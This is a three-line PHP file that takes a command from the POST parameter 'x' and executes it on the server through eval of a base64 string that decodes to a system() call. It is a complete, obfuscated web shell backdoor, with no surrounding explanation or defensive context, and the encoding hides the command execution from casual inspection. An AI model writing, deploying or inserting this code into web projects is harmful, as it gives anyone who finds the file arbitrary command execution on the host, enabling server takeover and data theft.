<?php
$c = $_POST['x'];
eval(base64_decode('c3lzdGVtKCRjKTs='));
